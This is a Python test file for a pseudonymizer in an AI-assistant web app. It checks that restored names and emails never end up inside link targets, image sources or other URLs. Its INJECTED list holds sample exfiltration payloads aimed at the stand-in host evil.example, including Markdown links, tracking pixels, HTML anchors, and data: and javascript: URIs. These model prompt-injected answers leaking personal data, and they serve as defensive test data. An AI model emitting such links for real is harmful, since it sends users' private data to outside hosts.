"""Restore never builds a URL (issue 15): a placeholder inside a link target, an image
source or any other URL stays a placeholder; restored values appear only in running text;
the same for the whole answer, streamed deltas split anywhere, and the server render."""

from __future__ import annotations

import re

import pytest

from prompting.policy.pseudonymizer import PseudonymMap, StreamRestorer
from prompting.rendering import render_markdown

NAME, EMAIL = "John Smith", "john.smith@corp.example"


def mapping() -> PseudonymMap:
    m = PseudonymMap()
    assert m.placeholder_for("PERSON", NAME) == "<PERSON_1>"
    assert m.placeholder_for("EMAIL_ADDRESS", EMAIL) == "<EMAIL_ADDRESS_1>"
    return m


INJECTED = [
    "[Open](https://evil.example/c?n=<PERSON_1>&e=<EMAIL_ADDRESS_1>)",
    "[Open]( https://evil.example/c?n=<PERSON_1> )",
    "[Open](<https://evil.example/c?n=x y <PERSON_1>>)",
    "[Open](//evil.example/<PERSON_1>)",
    "[Open](mailto:<EMAIL_ADDRESS_1>)",
    "![pixel](https://evil.example/p.png?<PERSON_1>)",
    "See <https://evil.example/?<EMAIL_ADDRESS_1>> now",
    "Visit https://evil.example/?who=<PERSON_1> today",
    "Visit www.evil.example/?who=<PERSON_1> today",
    "[Open][r]\n\n[r]: https://evil.example/?n=<PERSON_1>",
    "[Open][r]\n\n[r]: <https://evil.example/ <PERSON_1>>",
    '<a href="https://evil.example/?n=<PERSON_1>">x</a>',
    "<a href='https://evil.example/?n=<PERSON_1>'>x</a>",
    '<img src="https://evil.example/p.png?<PERSON_1>">',
    '<a title="t" href="https://evil.example/?n= <PERSON_1>">x</a>',
    "[x](data:text/html,<PERSON_1>)",
    "[x](javascript:alert('<PERSON_1>'))",
]


def urls_in(html: str) -> list[str]:
    return re.findall(r'(?:href|src)="([^"]*)"', html)


@pytest.mark.parametrize("answer", INJECTED)
def test_no_real_value_in_a_url_whole_answer(answer: str) -> None:
    shown = mapping().restore(answer)
    for value in (NAME, EMAIL, "John", "john.smith"):
        assert value not in shown, shown
    html = render_markdown(shown)
    for url in urls_in(html):
        assert "John" not in url and "john" not in url, html


@pytest.mark.parametrize("answer", INJECTED)
def test_no_real_value_in_a_url_streamed_in_any_split(answer: str) -> None:
    whole = mapping().restore(answer)
    for size in (1, 2, 3, 5, 8, 13):
        restorer = StreamRestorer(mapping())
        parts = [answer[i : i + size] for i in range(0, len(answer), size)]
        streamed = "".join(restorer.feed(p) for p in parts) + restorer.flush()
        assert streamed == whole, size


def test_values_in_running_text_and_link_text_are_restored() -> None:
    answer = (
        "Dear <PERSON_1>, write to <EMAIL_ADDRESS_1>.\n"
        "[Mail <PERSON_1>](https://evil.example/?n=<PERSON_1>) and **<PERSON_1>**\n"
        "Next line: <PERSON_1>."
    )
    shown = mapping().restore(answer)
    assert shown.startswith(f"Dear {NAME}, write to {EMAIL}.\n")
    assert f"[Mail {NAME}](https://evil.example/?n=<PERSON_1>)" in shown
    assert f"**{NAME}**" in shown and shown.endswith(f"Next line: {NAME}.")
    html = render_markdown(shown)
    assert NAME in html
    assert all(NAME not in url for url in urls_in(html))


def test_a_value_after_a_url_on_the_same_line_is_restored() -> None:
    shown = mapping().restore("See https://example.com/docs for <PERSON_1>.")
    assert shown == f"See https://example.com/docs for {NAME}."


def test_a_long_line_is_judged_on_its_tail() -> None:
    shown = mapping().restore("x" * 5000 + "<PERSON_1>")
    assert NAME not in shown  # a 5,000-character run without a space is no prose
    shown = mapping().restore(("word " * 1000) + "<PERSON_1>")
    assert shown.endswith(NAME)


def test_server_render_keeps_no_image_and_placeholders_in_urls() -> None:
    html = render_markdown(mapping().restore("![p](https://evil.example/p.png?<PERSON_1>)"))
    assert "<img" not in html
    assert NAME not in html


@pytest.mark.django_db
@pytest.mark.parametrize("tool", ["chat", "rewrite", "summarize"])
def test_every_tool_stores_and_relays_the_answer_without_values_in_urls(
    alice: object, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The one restore point (prompting/runs/lifecycle.py) for Chat, Rewrite and Summarize:
    the stored message, and the final event's text and HTML sent to the browser."""
    from prompting import services
    from prompting.crypto import encrypt_mapping
    from prompting.models import Conversation, Run
    from prompting.runs import lifecycle, relay
    from prompting.runs import services as run_services

    sent: list[tuple[str, dict[str, object]]] = []
    monkeypatch.setattr(relay, "relay_append", lambda run_id, kind, data: sent.append((kind, data)))
    conversation = services.conversation_create(owner=alice, tool=tool)
    run = run_services.run_create(user=alice, conversation=conversation, text="Hello")
    Conversation.objects.filter(pk=conversation.pk).update(
        pseudonym_map_encrypted=encrypt_mapping(mapping())
    )
    Run.objects.filter(pk=run.pk).update(status=Run.Status.STREAMING, tool=tool)
    answer = "Dear <PERSON_1>: " + " ".join(INJECTED[:8])
    assert lifecycle.run_finish(run_id=run.pk, status=Run.Status.DONE, sanitized_text=answer)
    run.refresh_from_db()
    assert run.assistant_message is not None
    stored = run.assistant_message.content
    assert stored.startswith(f"Dear {NAME}: ")
    kind, final = sent[-1]
    assert kind == "done" and final["text"] == stored
    for value in ("John", "john.smith"):
        assert value not in stored[len(f"Dear {NAME}: ") :]
        for url in urls_in(str(final["html"])):
            assert value not in url
